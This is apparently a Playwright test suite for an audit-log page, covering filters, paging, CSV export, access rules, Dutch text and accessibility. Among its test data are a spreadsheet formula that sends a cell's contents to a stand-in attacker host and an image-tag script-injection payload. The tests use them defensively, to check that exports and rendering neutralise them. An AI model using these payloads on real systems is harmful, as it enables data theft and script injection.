"""AUD-2: what changed, when, by whom and from where, for Administrators; narrowed, turned page by page, taken along."""

import asyncio
import csv
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Locator, Route, expect

from tests.web.browser import PATIENCE, Visitor
from tests.web.conftest import Visit
from tests.web.console.axe import violations
from tests.web.site import Person, Site

from .account import has_app

SCHEMA = (Path(__file__).parents[3] / "schema.graphql").read_text(encoding="utf-8")
EVENT = "id at action actor actorId origin target targetId before after"
PAGE = 25
PHONE = {"viewport": {"width": 390, "height": 844}}
FORMULA = "=HYPERLINK(\"http://evil.example?\"&A1,'x')"
MARKUP = '<img src=x onerror="alert(1)">, "quoted" ' + "m" * 120
expect.set_options(timeout=PATIENCE)


def actions() -> set[str]:
    """Those of the schema."""
    [body] = re.findall(r"^enum AuditAction \{(.*?)^\}", SCHEMA, re.MULTILINE | re.DOTALL)
    return set(re.findall(r"^  ([A-Z_]+)$", body, re.MULTILINE))


async def log(site: Site, who: Person, **wanted: Any) -> list[dict[str, Any]]:
    """All of it, as the API tells it."""
    query = f"""query($after: String, $filter: AuditFilter) {{ environment {{
      auditEvents(first: 100, after: $after, filter: $filter) {{
        pageInfo {{ hasNextPage endCursor }} edges {{ node {{ {EVENT} }} }} }} }} }}"""
    found: list[dict[str, Any]] = []
    after = None
    while True:
        answer = await site.ask(who, query, filter=wanted, after=after)
        page = answer["environment"]["auditEvents"]
        found += [edge["node"] for edge in page["edges"]]
        if not page["pageInfo"]["hasNextPage"]:
            return found
        after = page["pageInfo"]["endCursor"]


async def at_log(visit: Visit, who: Person, query: str = "", **options: Any) -> Visitor:
    visitor = await visit(who, **options)
    await visitor.enters(f"/audit{query}", "Audit log")
    await rows(visitor).first.wait_for()
    return visitor


def rows(visitor: Visitor) -> Locator:
    return visitor.page.locator("main tbody tr")


async def moments(visitor: Visitor) -> list[str]:
    """When each event in sight was."""
    return [str(at) for at in await visitor.page.eval_on_selector_all("tbody time", "all => all.map(t => t.dateTime)")]


async def changes(row: Locator) -> list[str]:
    """Before and after, as they are read out."""
    return await row.get_by_role("listitem").all_text_contents()


async def shows(visitor: Visitor, events: list[dict[str, Any]]) -> None:
    """Waits until these events are in sight, and no others."""
    await expect(rows(visitor)).to_have_count(len(events))
    for row, event in zip(await rows(visitor).all(), events, strict=True):
        await expect(row.locator("time")).to_have_attribute("datetime", event["at"])


async def chooses(visitor: Visitor, label: str, typed: str, option: str) -> None:
    await visitor.page.get_by_role("combobox", name=label, exact=True).fill(typed)
    await visitor.page.get_by_role("option", name=re.compile(re.escape(option))).click()


async def download(visitor: Visitor) -> tuple[str, bytes]:
    """What the browser saves: its name and what is in it."""
    async with visitor.page.expect_download() as saved:
        await visitor.page.get_by_role("button", name="Save as CSV").click()
    file = await saved.value
    return file.suggested_filename, Path(await file.path()).read_bytes()


# ---- what it says


@pytest.mark.parametrize(("language", "name"), [("en", "What"), ("nl", "Wat")])
async def test_aud_1_every_action_has_a_sentence(site: Site, visit: Visit, language: str, name: str) -> None:
    await site.do(site.alice, "updateAccount", "account { locale }", locale=language)
    visitor = await visit(site.alice)
    await visitor.enters("/audit")
    options = visitor.page.get_by_role("combobox", name=name, exact=True).locator("option")
    told = await options.evaluate_all("all => all.map(option => [option.value, option.textContent])")
    sentences = {value: sentence for value, sentence in told if value}
    assert set(sentences) == actions() - {"UNKNOWN"}, "UNKNOWN finds nothing as a filter"
    assert len(set(sentences.values())) == len(sentences), "no two are the same"
    assert all(" " in sentence for sentence in sentences.values())


async def test_aud_2_the_newest_come_first_page_by_page(site: Site, visit: Visit) -> None:
    await site.notices(site.bob, 2 * PAGE)
    whole = [event["at"] for event in await log(site, site.alice)]
    visitor = await at_log(visit, site.alice)
    pages = visitor.page.get_by_role("navigation", name="Page")
    shown: list[str] = []
    for number in range(1, 100):
        await pages.get_by_text(f"Page {number}", exact=True).wait_for()
        shown += await moments(visitor)
        following = pages.get_by_role("button", name="Next")
        if await following.get_attribute("aria-disabled"):
            break
        await following.click()
    assert shown == whole
    await pages.get_by_role("button", name="Previous").click()
    await pages.get_by_text(f"Page {number - 1}", exact=True).wait_for()
    assert await moments(visitor) == whole[(number - 2) * PAGE : (number - 1) * PAGE]


async def test_aud_1_before_and_after_stand_side_by_side(site: Site, visit: Visit) -> None:
    await site.role(site.bob, "ADVANCED_USER")
    await site.do(site.alice, "updateEnvironment", name="Acme Holding", joinPolicy="CLOSED", discoverable=False)
    given = {"organisationId": site.organisation, "userIds": [site.bob.id]}
    await site.do(site.alice, "addMembers", "results { errors { code } }", **given)
    visitor = await at_log(visit, site.alice)
    member, settings, role = [rows(visitor).nth(n) for n in range(3)]
    await member.get_by_text(site.bob.name).wait_for()
    assert await changes(member) == [f"User: {site.bob.name}", "Role: Member"]
    assert await changes(settings) == [
        "Name: was changed; the log keeps no names",
        "Who signs up: was joins at once → became by invitation only",
        "Found by others: was yes → became no",
    ]
    assert await changes(role) == [
        "Role: was Basic user → became Advanced user",
        "Relationship-manager mark: was no → became yes",
    ]
    for row in (member, settings, role):
        assert "from 127.0.0.1" in await row.inner_text()


async def test_aud_2_what_is_named_leads_to_its_screen(site: Site, visit: Visit) -> None:
    await site.role(site.bob, "ADVANCED_USER")
    given = {"organisationId": site.organisation, "userIds": [site.bob.id]}
    await site.do(site.alice, "addMembers", "results { errors { code } }", **given)
    visitor = await at_log(visit, site.alice)
    for row, name, path in (
        (1, site.bob.name, f"/users/{site.bob.id}"),
        (1, site.alice.name, f"/users/{site.alice.id}"),
        (0, "Acme Sales", f"/organisations/{site.organisation}"),
        (0, site.bob.name, f"/users/{site.bob.id}"),
    ):
        await expect(rows(visitor).nth(row).get_by_role("link", name=name)).to_have_attribute("href", path)


async def test_aud_2_each_side_reads_its_own_people_and_of_others_their_environment(site: Site, visit: Visit) -> None:
    asked = await site.partnership()
    await site.do(site.dave, "acceptPartnership", "partnership { id }", partnershipId=asked)
    query = "?action=PARTNERSHIP_ACCEPTED"
    carol, erin = await at_log(visit, site.carol, query), await at_log(visit, site.erin, query)
    own, theirs = rows(carol).first, rows(erin).first
    await own.get_by_role("link", name="Initech").wait_for()
    await own.get_by_role("link", name=site.dave.name).wait_for()
    assert "from 127.0.0.1" in await own.inner_text()
    await theirs.get_by_text("their own log says who and from where").wait_for()
    told = await theirs.inner_text()
    assert "Globex" in told
    assert site.dave.name not in told
    assert "127.0.0.1" not in told


async def test_aud_2_who_is_gone_is_named_no_more_and_still_found(site: Site, visit: Visit) -> None:
    await site.do(site.alice, "removeUser", "removedUserId", userId=site.bob.id)
    visitor = await at_log(visit, site.alice)
    removed = rows(visitor).first
    await removed.get_by_text("(removed)").wait_for()
    assert await removed.get_by_role("link", name="(removed)").count() == 0
    await removed.get_by_role("button", name="Only this: (removed)").click()
    await shows(visitor, await log(site, site.alice, targetId=site.bob.id))
    await visitor.page.get_by_role("search").get_by_text("not visible to you").wait_for()


async def test_aud_2_whose_second_factors_were_taken_off_is_named(site: Site, visit: Visit) -> None:
    zoe = await site.joins("Zoe Zonder", "zoe@acme.example")
    await site.role(zoe, "ADMINISTRATOR")
    await has_app(site, site.bob)
    for administrator in (site.alice, zoe):
        await site.do(administrator, "resetSecondFactor", userId=site.bob.id)
    visitor = await at_log(visit, site.alice, "?action=ACCOUNT_TWO_FACTOR_RESET")
    named = rows(visitor).first.get_by_role("link", name=site.bob.name)
    await expect(named).to_have_attribute("href", f"/users/{site.bob.id}")


# ---- narrowed


async def test_aud_2_filters_stand_in_the_address_and_outlive_a_reload(site: Site, visit: Visit) -> None:
    await site.notices(site.bob, 4)
    await site.do(site.alice, "blockUser", "user { id }", userId=site.bob.id)
    visitor = await at_log(visit, site.alice)
    page = visitor.page
    await page.get_by_role("combobox", name="What", exact=True).select_option("USER_ROLE_CHANGED")
    changed = await log(site, site.alice, action="USER_ROLE_CHANGED")
    await shows(visitor, changed)
    await page.reload()
    await shows(visitor, changed)
    assert page.url.endswith("/audit?action=USER_ROLE_CHANGED")
    await chooses(visitor, "On what", "jan", site.bob.name)
    await chooses(visitor, "Who", "alic", site.alice.name)
    await page.wait_for_url("**/audit?*actor=*")
    both = {"action": "USER_ROLE_CHANGED", "targetId": site.bob.id, "actorId": site.alice.id}
    await shows(visitor, await log(site, site.alice, **both))
    await page.get_by_role("button", name="On what: any").click()
    await page.get_by_role("button", name="Who: any").click()
    await page.get_by_role("button", name="Show everything").click()
    await shows(visitor, (await log(site, site.alice))[:PAGE])
    await page.go_back()
    await shows(visitor, changed)


async def test_aud_2_anything_is_found_by_its_name(site: Site, visit: Visit) -> None:
    visitor = await at_log(visit, site.alice)
    partnership = (await site.ask(site.alice, "{ environment { partnerships { edges { node { id } } } } }"))[
        "environment"
    ]["partnerships"]["edges"][0]["node"]["id"]
    for typed, option, target in (
        ("sal", "Acme Sales", site.organisation),
        ("glo", "Globex", partnership),
        ("acm", "Acme Environment", site.alice.environment),
    ):
        await chooses(visitor, "On what", typed, option)
        found = await log(site, site.alice, targetId=target)
        assert found
        await shows(visitor, found)
        await visitor.page.get_by_role("button", name="On what: any").click()


async def test_aud_2_days_are_the_readers_own_from_their_beginning_to_their_end(site: Site, visit: Visit) -> None:
    visitor = await visit(site.alice, timezone_id="Europe/Amsterdam")
    await visitor.enters("/audit?from=2026-03-01&to=2026-03-05", "Audit log")
    await visitor.page.get_by_text("Nothing in the log fits this.").wait_for()
    asked = visitor.only("EventsQuery").variables["filter"]
    assert asked == {"since": "2026-02-28T23:00:00.000Z", "until": "2026-03-05T23:00:00.000Z"}


async def test_aud_2_one_click_narrows_to_what_it_stands_beside(site: Site, visit: Visit) -> None:
    await site.role(site.bob, "ADVANCED_USER")
    visitor = await at_log(visit, site.alice)
    await rows(visitor).first.get_by_role("button", name="Only this: A user got another role").click()
    await shows(visitor, await log(site, site.alice, action="USER_ROLE_CHANGED"))
    await visitor.focus_is("focused.ariaLabel === 'What changed'")
    await rows(visitor).first.get_by_role("button", name=f"Only this: {site.alice.name}").click()
    await shows(visitor, await log(site, site.alice, action="USER_ROLE_CHANGED", actorId=site.alice.id))


async def test_aud_2_the_keyboard_alone_narrows_and_opens_again(site: Site, visit: Visit) -> None:
    visitor = await at_log(visit, site.alice)
    page = visitor.page
    who = page.get_by_role("combobox", name="Who", exact=True)
    await who.focus()
    await page.keyboard.type("alic")
    await page.get_by_role("option", name=re.compile(site.alice.name)).wait_for()
    await page.keyboard.press("Enter")
    await shows(visitor, (await log(site, site.alice, actorId=site.alice.id))[:PAGE])
    await visitor.focus_is("focused.ariaLabel === 'Who: any'")
    await page.keyboard.press("Enter")
    await shows(visitor, (await log(site, site.alice))[:PAGE])
    await visitor.focus_is("focused.role === 'combobox'")


async def test_aud_2_what_is_no_filter_is_none_and_what_fits_nothing_says_so(site: Site, visit: Visit) -> None:
    visitor = await at_log(visit, site.alice, "?action=NONSENSE&from=yesterday&to=2026-99")
    await shows(visitor, (await log(site, site.alice))[:PAGE])
    await visitor.enters("/audit?target=nonsense", "Audit log")
    await visitor.page.get_by_text("Nothing in the log fits this.").wait_for()


# ---- taken along


async def test_aud_2_all_pages_are_saved_and_no_cell_is_a_formula(site: Site, visit: Visit) -> None:
    for name, email in ((FORMULA, "formula@gmail.com"), (MARKUP, "markup@gmail.com"), ("+31 20", "plus@gmail.com")):
        await site.do(site.alice, "addUser", "user { id }", email=email, name=name)
    await site.notices(site.bob, 110)
    whole = await log(site, site.alice)
    visitor = await at_log(visit, site.alice)
    name, file = await download(visitor)
    assert re.fullmatch(r"audit-log-\d{4}-\d\d-\d\d\.csv", name)
    assert file.startswith(b"\xef\xbb\xbf")
    text = file.decode("utf-8-sig")
    assert text.count("\r\n") == len(whole) + 1
    [headings, *found] = csv.reader(text.splitlines(), strict=True)
    assert headings[:5] == ["When", "Action", "What", "On what", "Its id"]
    assert not [cell for row in found for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [[cell.removeprefix("'") for cell in (row[0], row[1], *row[3:])] for row in found] == [
        [
            event[key] or ""
            for key in ("at", "action", "target", "targetId", "before", "after", "actor", "actorId", "origin")
        ]
        for event in whole
    ]
    assert [row[3] for row in found if "HYPERLINK" in row[3]] == [f"'{FORMULA}"]
    assert visitor.names.count("useExportQuery") == -(-len(whole) // 100)
    await visitor.page.get_by_role("status").get_by_text(f"{len(whole)} events were saved.").wait_for()
    await visitor.focus_is("focused.textContent === 'Save as CSV'")


async def test_aud_2_what_is_saved_is_what_the_filter_finds(site: Site, visit: Visit) -> None:
    await site.notices(site.bob, 3)
    visitor = await at_log(visit, site.alice, "?action=USER_ROLE_CHANGED")
    _, file = await download(visitor)
    found = list(csv.reader(file.decode("utf-8-sig").splitlines()))[1:]
    assert [row[0] for row in found] == [e["at"] for e in await log(site, site.alice, action="USER_ROLE_CHANGED")]


async def test_aud_2_reading_can_be_left_and_then_nothing_is_saved(site: Site, visit: Visit) -> None:
    visitor = await at_log(visit, site.alice)
    downloads: list[Any] = []
    visitor.page.on("download", lambda file: downloads.append(file))
    held, left = asyncio.Event(), asyncio.Event()

    async def hold() -> None:
        held.set()
        await left.wait()

    await visitor.before("useExportQuery", hold)
    await visitor.page.get_by_role("button", name="Save as CSV").click()
    dialog = visitor.page.get_by_role("dialog")
    await dialog.get_by_role("progressbar").wait_for()
    await held.wait()
    await visitor.page.keyboard.press("Escape")
    await dialog.wait_for(state="detached")
    async with visitor.page.expect_response("**/graphql"):
        left.set()
    await visitor.focus_is("focused.textContent === 'Save as CSV'")
    assert downloads == []


async def test_aud_2_where_a_page_cannot_be_had_it_goes_on_from_there(site: Site, visit: Visit) -> None:
    await site.notices(site.bob, 110)
    whole = await log(site, site.alice)
    visitor = await at_log(visit, site.alice)
    visitor.forgive_broken_connections()
    seen: list[str] = []

    async def cut(route: Route) -> None:
        if "useExportQuery" in (route.request.post_data or ""):
            seen.append("page")
            if len(seen) == 2:
                return await route.abort()
        return await route.continue_()

    await visitor.page.route("**/graphql", cut)
    await visitor.page.get_by_role("button", name="Save as CSV").click()
    dialog = visitor.page.get_by_role("dialog")
    await dialog.get_by_role("alert").wait_for()
    await dialog.get_by_text("100 events read, back to").wait_for()
    async with visitor.page.expect_download() as saved:
        await dialog.get_by_role("button", name="Go on from here").click()
    text = Path(await (await saved.value).path()).read_text(encoding="utf-8-sig")
    assert [row[0] for row in list(csv.reader(text.splitlines()))[1:]] == [event["at"] for event in whole]
    assert len(seen) == 3


# ---- who may


async def test_usr_2_who_may_read_it_no_more_is_told_so_while_it_is_saved(site: Site, visit: Visit) -> None:
    zoe = await site.joins("Zoe Zonder", "zoe@acme.example")
    await site.role(zoe, "ADMINISTRATOR")
    visitor = await at_log(visit, zoe)
    await visitor.before("useExportQuery", lambda: site.role(zoe, "BASIC_USER"))
    await visitor.page.get_by_role("button", name="Save as CSV").click()
    told = visitor.page.get_by_role("dialog").get_by_role("alert")
    await expect(told).to_have_text("Your role does not give access to this.")


async def test_aud_2_who_may_not_read_it_is_told_why_and_who_may(site: Site, visit: Visit) -> None:
    for who in (site.bob, site.dave):
        visitor = await visit(who)
        await visitor.enters("/audit", "Audit log")
        main = visitor.page.locator("main")
        await main.get_by_text("Only Administrators read the audit log.").wait_for()
        await main.get_by_role("link", name=site.alice.name if who is site.bob else site.carol.name).wait_for()
        assert await main.get_by_role("button").count() == 0
        assert "EventsQuery" not in visitor.names


# ---- how it looks


async def test_it_reads_in_dutch(site: Site, visit: Visit) -> None:
    await site.do(site.alice, "updateAccount", "account { locale }", locale="nl")
    await site.role(site.bob, "ADVANCED_USER")
    visitor = await visit(site.alice)
    await visitor.enters("/audit", "Logboek")
    first = rows(visitor).first
    await first.get_by_text("Een gebruiker kreeg een andere rol").wait_for()
    assert await changes(first) == [
        "Rol: was Basisgebruiker → werd Gevorderde gebruiker",
        "Markering relatiebeheerder: was nee → werd ja",
    ]
    async with visitor.page.expect_download() as saved:
        await visitor.page.get_by_role("button", name="Opslaan als CSV").click()
    file = await saved.value
    assert file.suggested_filename.startswith("logboek-")
    assert "Een gebruiker kreeg een andere rol" in Path(await file.path()).read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("window", [{}, PHONE], ids=["desk", "phone"])
async def test_it_has_no_barriers_and_fits(site: Site, visit: Visit, scheme: str, window: dict[str, Any]) -> None:
    for name, email in ((MARKUP, "markup@gmail.com"), ("שלום " * 30, "right@gmail.com")):
        await site.do(site.alice, "addUser", "user { id }", email=email, name=name)
    await site.collaboration()
    visitor = await at_log(visit, site.alice, f"?actor={site.alice.id}", color_scheme=scheme, **window)
    await rows(visitor).filter(has_text=MARKUP).wait_for()
    assert await violations(visitor.page) == []
    assert await visitor.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await visitor.page.get_by_role("combobox", name="On what", exact=True).click()
    await visitor.page.get_by_role("listbox").get_by_role("option").first.wait_for()
    assert await violations(visitor.page) == []
    assert await visitor.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
